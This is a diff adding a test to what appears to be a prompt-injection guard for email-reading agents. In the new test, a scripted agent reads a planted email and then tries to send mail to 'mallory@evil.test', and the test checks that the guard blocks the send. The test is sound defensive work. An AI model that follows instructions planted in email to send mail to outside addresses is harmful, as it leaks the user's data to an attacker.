@@ -426,3 +426,18 @@ def test_an_annotated_result_reaches_the_model_with_the_guards_note_outside_the_
     note, data = shown.split("\n", 1)
     assert note.startswith("[agentguard] Note:") and "urgency" in note
     assert data.startswith("<<untrusted-data abababababababab source=read_inbox>>")
+
+
+def test_values_in_a_withheld_result_still_count_as_planted() -> None:
+    world = World(BLATANT_EMAIL)
+    graph, _ = agent(
+        world,
+        [
+            calls(("read_inbox", {}, "r1")),
+            calls(("send_email", {"to": "mallory@evil.test", "subject": "x"}, "s1")),
+        ],
+        taint="deny",
+    )
+    result = run(graph, "read my mail")
+    assert world.sent == []
+    assert "read_inbox#r1" in tool_messages(result)["s1"].text
